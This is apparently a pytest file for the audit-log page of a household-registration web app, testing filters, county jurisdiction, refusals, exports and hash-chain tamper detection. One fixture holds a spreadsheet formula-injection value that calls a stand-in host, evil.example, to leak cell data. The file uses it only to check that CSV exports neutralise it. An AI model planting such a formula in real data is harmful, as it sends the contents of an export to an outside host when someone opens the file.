"""The audit log page through the Flask test client, on both engines: the filters of
``zhucun audit log`` and their pages with the total, the account's jurisdiction (a county's
auditor never sees another county's entries, whatever the filters say), bad and hostile
filter values refused beside their field, each page in one language, links to what each
entry is about, exports to Excel and CSV recorded as the command line's are, and the state
of the hash chain with its checkpoint."""

from __future__ import annotations

import csv
import html as html_text
import io
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any
from uuid import UUID

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import text

from app.accounts import Accounts
from app.audit.chain import parse_checkpoints, verify
from app.audit.log import AuditFilter, scan_rows
from app.bootstrap import Zhucun, bootstrap
from app.store.clock import SettableClock
from projections.audit.chain import events_source
from tests.builders import COUNTY, GROUP_A2, TOWNSHIP, VILLAGE_A, apply, cmd, hid, household
from tests.conftest import pg_url_for_new_schema
from tests.team_builders import CITY_AGRI, LEADER, MEMBER, UNITS, cid
from tests.web.builders import (
    FAST_HASHER,
    OTHER_COUNTY,
    OTHER_GROUP,
    OTHER_VILLAGE,
    PASSWORD,
    web_network,
)
from tests.web.conftest import login, make_app
from tests.web.matrix import refusals

COUNTY_AUDITOR = "county.auditor"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SIZE = 50  # entries a page (web/audit.py)
TEAM = "00000000-0000-0000-0003-000000000001"  # the team of village A
OTHER_TEAM = "00000000-0000-0000-0003-000000000009"  # serving in the other county


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def store(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Zhucun]:
    """The web tests' network (two counties, a team), a household in the other county, one
    recorded for a reason that reads as a formula, a correction, a team member's month, and
    an auditor of the county."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('audit-page')}/zhucun.db"
    else:
        url = pg_url_for_new_schema()
    z = bootstrap(url, SettableClock(datetime(2016, 12, 31, 4, 0, tzinfo=UTC)))
    web_network(z)
    apply(
        z,
        household(9, OTHER_GROUP, "钱九", 3),
        {**household(5, GROUP_A2, "孙五", 2), "reason": HOSTILE},
        cmd(
            "check_in", on="2016-12-30", actor="team.member", role="team_member", cadre=cid(MEMBER)
        ),
    )
    z.projections.catch_up()
    (registered,) = [
        r["position"]
        for r in scan_rows(z.store, z.engine, AuditFilter(event="Household.Registered"))
        if r["subject"] == hid(5)
    ]
    apply(
        z,
        cmd("record_correction", on="2016-12-31", position=registered, note="人口数有误"),
        cmd("dispatch_team", on="2016-12-01", unit=CITY_AGRI, village=OTHER_VILLAGE, id=OTHER_TEAM),
    )
    Accounts(z, hasher=FAST_HASHER).add(COUNTY_AUDITOR, "auditor", COUNTY, PASSWORD, actor="test")
    yield z
    z.close()


@pytest.fixture(scope="module")
def app(store: Zhucun) -> Flask:
    return make_app(store)


def client_of(app: Flask, who: str) -> FlaskClient:
    return login(app.test_client(), who)


def positions(page: str) -> list[int]:
    return [int(p) for p in re.findall(r'<li class="entry" id="entry-(\d+)">', page)]


def visible(page: str) -> str:
    """The page's text as a reader sees it: no tags, no attributes, no script."""
    body = re.sub(r"<(script|style)\b.*?</\1>", " ", page, flags=re.S)
    return html_text.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body)))


def total_of(page: str) -> int:
    found = re.search(r'<h2 id="total">(.*?)</h2>', page, re.S)
    assert found, "no total on the page"
    return int(re.sub(r"\D", "", visible(found.group(1)).split("·")[0]))


def whole(z: Zhucun, **kw: Any) -> list[int]:
    """The positions of the whole answer, read from the whole log (the reference)."""
    return [r["position"] for r in scan_rows(z.store, z.engine, AuditFilter(**kw))]


def every_page(client: FlaskClient, **params: Any) -> tuple[list[int], int]:
    """The positions on every page of the filters, and the total the pages show."""
    first = client.get("/audit", query_string=params)
    assert first.status_code == 200, visible(first.get_data(as_text=True))[:400]
    page = first.get_data(as_text=True)
    total, found, n = total_of(page), positions(page), 1
    while n * SIZE < total:
        n += 1
        page = client.get("/audit", query_string={**params, "page": n}).get_data(as_text=True)
        found += positions(page)
    return found, total


# -- filters, pages and totals ----------------------------------------------------------------


def test_a_city_auditor_sees_the_whole_log_a_page_at_a_time_with_the_total(
    app: Flask, store: Zhucun
) -> None:
    client = client_of(app, "auditor")
    found, total = every_page(client)
    assert found == whole(store) and total == len(found) > SIZE
    first = client.get("/audit").get_data(as_text=True)
    assert len(positions(first)) == SIZE
    assert "第 1 页，共 2 页" in visible(first)
    last = client.get("/audit", query_string={"page": 2}).get_data(as_text=True)
    assert positions(last) == found[SIZE:]
    assert 'id="next-page"' not in last and 'id="previous-page"' in last
    beyond = client.get("/audit", query_string={"page": 9}).get_data(as_text=True)
    assert positions(beyond) == [] and "本页没有记录" in visible(beyond)


FILTERS: list[tuple[dict[str, str], dict[str, Any]]] = [
    ({"unit": TOWNSHIP}, {"unit": TOWNSHIP}),
    ({"unit": VILLAGE_A}, {"unit": VILLAGE_A}),
    ({"team": TEAM}, {"team": UUID(TEAM)}),
    ({"person": "王大"}, {"person": "王大"}),
    ({"person": cid(LEADER)}, {"person": cid(LEADER)}),
    ({"type": "Household.Registered"}, {"event": "Household.Registered"}),
    (
        {"from": "2014-06-01", "to": "2014-06-02"},
        {"occurred_from": date(2014, 6, 1), "occurred_to": date(2014, 6, 2)},
    ),
    (
        {"recorded_from": "2016-12-31", "recorded_to": "2016-12-31"},
        {"recorded_from": date(2016, 12, 31), "recorded_to": date(2016, 12, 31)},
    ),
    ({"backdated": "1"}, {"backdated_only": True}),
    ({"corrections": "1"}, {"corrections_only": True}),
    (
        {"unit": VILLAGE_A, "type": "Household.Registered", "backdated": "1"},
        {"unit": VILLAGE_A, "event": "Household.Registered", "backdated_only": True},
    ),
    ({"person": "nobody at all"}, {"person": "nobody at all"}),
]


@pytest.mark.parametrize(("params", "kw"), FILTERS, ids=[str(p) for p, _ in FILTERS])
def test_each_filter_gives_the_entries_of_the_command_line_s_filter(
    app: Flask, store: Zhucun, params: dict[str, str], kw: dict[str, Any]
) -> None:
    found, total = every_page(client_of(app, "auditor"), **params)
    expected = whole(store, **kw)
    assert found == expected and total == len(expected)


def test_a_correction_and_what_it_corrects_are_flagged_and_back_dated_entries_too(
    app: Flask, store: Zhucun
) -> None:
    page = client_of(app, "auditor").get("/audit", query_string={"corrections": "1"})
    text = visible(page.get_data(as_text=True))
    (correction,) = whole(store, corrections_only=True)
    (fixed,) = scan_rows(
        store.store, store.engine, AuditFilter(subject=hid(5), event="Household.Registered")
    )
    assert f"更正第 {fixed['position']} 条" in text
    about = client_of(app, "auditor").get("/audit", query_string={"person": hid(5)})
    assert f"已被第 {correction} 条更正" in visible(about.get_data(as_text=True))
    back = client_of(app, "auditor").get("/audit", query_string={"backdated": "1"})
    assert visible(back.get_data(as_text=True)).count("补录") >= len(
        whole(store, backdated_only=True)
    )


# -- jurisdiction -----------------------------------------------------------------------------


def other_county_positions(z: Zhucun) -> set[int]:
    """The entries of the other county that are not the county's too (a city department
    that sent teams to both is in both)."""
    found = set(whole(z, unit=OTHER_COUNTY)) - set(whole(z, unit=COUNTY))
    about = {
        r["subject"] for r in scan_rows(z.store, z.engine, AuditFilter()) if r["position"] in found
    }
    assert {hid(9), OTHER_TEAM} <= about  # the other county's household and team
    return found


def test_a_county_auditor_sees_only_the_county_and_never_the_other_county(
    app: Flask, store: Zhucun
) -> None:
    client = client_of(app, COUNTY_AUDITOR)
    found, total = every_page(client)
    assert found == whole(store, unit=COUNTY) and total == len(found)
    assert other_county_positions(store) and not other_county_positions(store) & set(found)
    text = visible(client.get("/audit").get_data(as_text=True))
    assert f"单位 {COUNTY} 及其下属的全部记录" in text
    # Filters that name what lies elsewhere find nothing outside the county either.
    for params, kw in [
        ({"person": "钱九"}, {"person": "钱九"}),
        ({"person": hid(9)}, {"person": hid(9)}),
        ({"team": OTHER_TEAM}, None),
        ({"type": "Team.Dispatched"}, {"event": "Team.Dispatched"}),
    ]:
        if kw is None:  # a team of the other county: refused outright (above)
            continue
        found, total = every_page(client, **params)
        assert not other_county_positions(store) & set(found)
        assert found == whole(store, unit=COUNTY, **kw), params


@pytest.mark.parametrize(
    "given",
    [
        OTHER_COUNTY,
        f" {OTHER_COUNTY} ",
        "２１０５２２",
        "210522100201",
        "２１０５２２１００２０１　",
    ],
)
def test_another_county_s_unit_however_written_is_refused_and_recorded(
    app: Flask, store: Zhucun, given: str
) -> None:
    client = client_of(app, COUNTY_AUDITOR)
    before = refusals(store)
    response = client.get("/audit", query_string={"unit": given})
    assert response.status_code == 403
    assert refusals(store) == before + 1
    assert not set(positions(response.get_data(as_text=True)))


def test_another_county_s_team_is_refused_and_recorded(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "county_admin")
    before = refusals(store)
    response = client.get("/audit", query_string={"team": OTHER_TEAM})
    assert response.status_code == 403 and refusals(store) == before + 1


@pytest.mark.parametrize(
    ("given", "scope"),
    [
        (f"  {TOWNSHIP} ", TOWNSHIP),
        ("２１０５２１１００", TOWNSHIP),
        (f"\u3000{VILLAGE_A}\u3000", VILLAGE_A),
    ],
)
def test_a_unit_inside_the_county_is_read_padded_or_in_full_width_digits(
    app: Flask, store: Zhucun, given: str, scope: str
) -> None:
    found, total = every_page(client_of(app, COUNTY_AUDITOR), unit=given)
    assert found == whole(store, unit=scope) and total == len(found)


# -- bad values -------------------------------------------------------------------------------

BAD = [
    ({"unit": "21052"}, "unit", 400, "区划代码 '21052' 不对", "unit code '21052' is invalid"),
    ({"unit": "210521999"}, "unit", 404, "210521999", "210521999"),
    ({"team": "team-one"}, "team", 400, "不是工作队编号", "is not a team's id"),
    (
        {"type": "Household.Burnt"},
        "type",
        400,
        "没有 'Household.Burnt' 这类事项",
        "there is no kind of entry",
    ),
    ({"from": "2015-13-01"}, "from", 400, "日期 '2015-13-01' 不对", "date '2015-13-01' is invalid"),
    ({"to": "20150101"}, "to", 400, "应为 YYYY-MM-DD", "YYYY-MM-DD expected"),
    (
        {"recorded_from": "2016-12-31", "recorded_to": "2016-01-01"},
        "recorded_to",
        400,
        "早于开始日期",
        "is before the first day",
    ),
    ({"page": "0"}, "page", 400, "页码 '0' 不对", "page '0' is invalid"),
    ({"page": "²"}, "page", 400, "页码", "page"),
    ({"backdated": "yes"}, "backdated", 400, "勾选或不勾选", "ticked or not"),
    ({"person": "王" * 101}, "person", 400, "最长 100 个字符", "at most 100 characters"),
]


@pytest.mark.parametrize(
    ("params", "field", "status", "zh", "en"),
    BAD,
    ids=[b[1] + "-" + str(i) for i, b in enumerate(BAD)],
)
def test_a_bad_filter_value_is_named_beside_its_field_in_the_page_s_language(
    app: Flask, params: dict[str, str], field: str, status: int, zh: str, en: str
) -> None:
    client = client_of(app, "auditor")
    for lang, message, other in (("zh", zh, en), ("en", en, zh)):
        response = client.get("/audit", query_string={**params, "lang": lang})
        page = response.get_data(as_text=True)
        assert response.status_code == status, visible(page)[:300]
        error = re.search(rf'<p class="error" id="{field}-error">(.*?)</p>', page, re.S)
        assert error, f"no message beside {field}"
        assert message in html_text.unescape(error.group(1))
        assert other not in html_text.unescape(error.group(1)) or message in other
        assert positions(page) == []


def test_bad_values_in_an_export_are_refused_and_nothing_is_recorded(
    app: Flask, store: Zhucun
) -> None:
    client = client_of(app, "auditor")
    before = store.store.max_position()
    response = client.post(
        "/audit/export/csv", data={"csrf_token": _token(client), "from": "2015-02-30"}
    )
    assert response.status_code == 400
    assert "日期 '2015-02-30' 不对" in visible(response.get_data(as_text=True))
    assert store.store.max_position() == before


# -- languages --------------------------------------------------------------------------------

# The names of the two file formats, and "API" as Chinese writes it too (API 令牌, ADR 041).
ALLOWED_LATIN = {"Excel", "CSV", "API"}


def test_the_chinese_page_shows_no_english_and_no_raw_names(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "auditor")
    codes = {u[0] for u in UNITS}  # the dispatching units' own codes
    data = {a[0] for a in _accounts()} | {"li.clerk", "test", store.rules.version} | codes
    for params in (
        {},
        {"page": "2"},
        {"type": "Account.Added"},
        {"corrections": "1"},
        {"unit": OTHER_COUNTY},
    ):
        page = client.get("/audit", query_string={**params, "lang": "zh"}).get_data(as_text=True)
        # The link to the English page says so in English, as a language's own name.
        assert "web login" not in page  # the application's own reasons, in words
        # Reasons are as their writers typed them (the accounts' own are in both languages).
        page = re.sub(r'<dd class="reason">.*?</dd>', "", page, flags=re.S)
        text = visible(re.sub(r'<a [^>]*lang="en"[^>]*>English</a>', "", page))
        text = re.sub(r"\b[0-9a-f-]{32,}\b", " ", text)  # ids and the chain's link: data
        for word in re.findall(r"[A-Za-z][A-Za-z0-9._-]+", text):
            assert word in ALLOWED_LATIN or word in data, (word, params)
    english = visible(client.get("/audit?lang=en").get_data(as_text=True))
    assert "Audit log" in english and "Happened on" in english and "unit opened" in english
    assert "审计日志" not in english and "设立单位" not in english


def _accounts() -> list[tuple[str, str]]:
    from tests.web.builders import ACCOUNTS

    return [*ACCOUNTS.values(), (COUNTY_AUDITOR, COUNTY)]


def test_times_are_beijing_and_days_in_chinese_formats(app: Flask, store: Zhucun) -> None:
    asked = {"type": "MemberMonth.CheckedIn", "lang": "zh"}
    text = visible(
        client_of(app, "auditor").get("/audit", query_string=asked).get_data(as_text=True)
    )
    # Recorded 2016-12-31 04:00 UTC by the store's clock: 12:00 in Beijing.
    assert "2016年12月31日 12:00:00" in text and "04:00:00" not in text
    assert "2016年12月30日" in text  # the check-in's day


# -- links ------------------------------------------------------------------------------------


def test_each_entry_links_to_the_page_of_what_it_is_about(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "auditor")
    total = total_of(client.get("/audit").get_data(as_text=True))
    page = "".join(
        client.get("/audit", query_string={"page": n}).get_data(as_text=True)
        for n in range(1, total // SIZE + 2)
    )
    links = set(re.findall(r'<a class="subject" href="([^"]+)"', page))
    wanted = [
        f"/units/{COUNTY}",
        f"/households/{hid(1)}",
        "/teams/00000000-0000-0000-0003-000000000001",
        f"/history/cadre/{cid(LEADER)}",
        f"/history/cadre/{cid(MEMBER)}",  # the member's month
    ]
    for link in wanted:
        assert link in links, link
    for link in links:
        assert client.get(link).status_code == 200, link


def test_the_navigation_offers_the_page_to_the_roles_that_may_read_it(app: Flask) -> None:
    for role, offered in [
        ("auditor", True),
        ("inspector", True),
        ("city_admin", True),
        ("county_admin", True),
        ("township_officer", False),
        ("team_member", False),
    ]:
        page = client_of(app, role).get("/summary").get_data(as_text=True)
        assert ('id="nav-audit"' in page) is offered, role


# -- exports ----------------------------------------------------------------------------------


def _token(client: FlaskClient) -> str:
    page = client.get("/audit").get_data(as_text=True)
    found = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert found
    return found.group(1)


def exported(z: Zhucun) -> list[Any]:
    return [
        logged.event
        for page in z.store.iter_log()
        for logged in page
        if type(logged.event).__qualname__ == "DataAccess.Exported"
    ]


def test_the_excel_export_holds_every_entry_of_the_filters_and_is_recorded(
    app: Flask, store: Zhucun
) -> None:
    client = client_of(app, COUNTY_AUDITOR)
    before = len(exported(store))
    expected = whole(store, unit=COUNTY)
    response = client.post(
        "/audit/export/xlsx", data={"csrf_token": _token(client), "reason": "2016年度审计"}
    )
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    assert ".xlsx" in response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    log, about = book.worksheets
    body = [row for row in log.iter_rows(min_row=2, values_only=True)]
    assert [row[0] for row in body] == expected  # every page, not the first only
    assert log.freeze_panes == "B2"
    sheet = {row[0]: row[1] for row in about.iter_rows(values_only=True) if row and row[0]}
    assert sheet["导出人 exported by"] == f"{COUNTY_AUDITOR} (auditor)"
    assert sheet["unit"] == COUNTY
    events = exported(store)
    assert len(events) == before + 1
    e = events[-1]
    assert (e.actor_id, e.actor_role, e.format, e.rows) == (
        COUNTY_AUDITOR,
        "auditor",
        "xlsx",
        len(expected),
    )
    assert e.target.startswith("web:audit-log-") and e.target.endswith(".xlsx")
    assert e.filters["unit"] == COUNTY and e.reason == "2016年度审计" and not e.unmasked


def test_the_csv_export_cannot_run_as_a_formula_and_is_recorded(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "auditor")
    before = len(exported(store))
    response = client.post(
        "/audit/export/csv",
        data={"csrf_token": _token(client), "unit": VILLAGE_A, "type": "Household.Registered"},
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert [int(r["position"]) for r in rows] == whole(
        store, unit=VILLAGE_A, event="Household.Registered"
    )
    (hostile,) = [r for r in rows if r["subject"] == hid(5)]
    assert hostile["reason"] == "'" + HOSTILE
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    e = exported(store)[-1]
    assert len(exported(store)) == before + 1
    assert (e.format, e.rows, e.filters["event"], e.reason) == (
        "csv",
        len(rows),
        "Household.Registered",
        "审计导出 audit export",
    )


def test_the_export_is_itself_in_the_audit_log_page(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "auditor")
    client.post("/audit/export/csv", data={"csrf_token": _token(client), "type": "Unit.Opened"})
    page = client.get("/audit", query_string={"type": "DataAccess.Exported"}).get_data(as_text=True)
    text = visible(page)
    assert "导出数据" in text and "CSV 文件" in text and "city.auditor" in text
    assert "事项：设立单位" in text  # the filters recorded, in words


def test_an_export_needs_the_form_s_token(app: Flask, store: Zhucun) -> None:
    client = client_of(app, "auditor")
    before = store.store.max_position()
    assert client.post("/audit/export/xlsx", data={}).status_code == 400
    assert client.get("/audit/export/xlsx").status_code == 405
    assert store.store.max_position() == before


# -- the chain --------------------------------------------------------------------------------


def test_the_chain_is_shown_intact_up_to_the_head_with_a_checkpoint_to_keep(
    app: Flask, store: Zhucun
) -> None:
    client = client_of(app, "auditor")
    page = client.get("/audit/chain?again=1").get_data(as_text=True)
    head = store.store.max_position()
    text = visible(page)
    assert f"至日志第 {head} 条" in text and "完好" in text
    cp = client.get("/audit/checkpoint.json")
    assert "attachment" in cp.headers["Content-Disposition"]
    (kept,) = parse_checkpoints(cp.get_data(as_text=True))
    assert kept.position == head
    assert verify(store.store, store.engine, [kept]).ok
    index = client.get("/audit").get_data(as_text=True)
    assert 'hx-get="/audit/chain"' in index and kept.link in index


def test_a_stored_event_changed_behind_the_system_s_back_is_shown(
    tmp_path: Any,
) -> None:
    z = bootstrap(
        f"sqlite:///{tmp_path}/z.db", SettableClock(datetime(2016, 12, 31, 4, tzinfo=UTC))
    )
    try:
        web_network(z)
        z.projections.catch_up()
        table, pos = events_source(z.engine.dialect.name)
        with z.engine.begin() as conn:
            state = conn.execute(text(f"SELECT state FROM {table} WHERE {pos} = 3")).scalar_one()
            forged = bytes(state).replace("小市镇".encode(), "大市镇".encode())
            conn.execute(text(f"UPDATE {table} SET state = :s WHERE {pos} = 3"), {"s": forged})
        client = client_of(make_app(z), "auditor")
        text_shown = visible(client.get("/audit/chain").get_data(as_text=True))
        assert "不完好" in text_shown and "第 3 条" in text_shown
    finally:
        z.close()
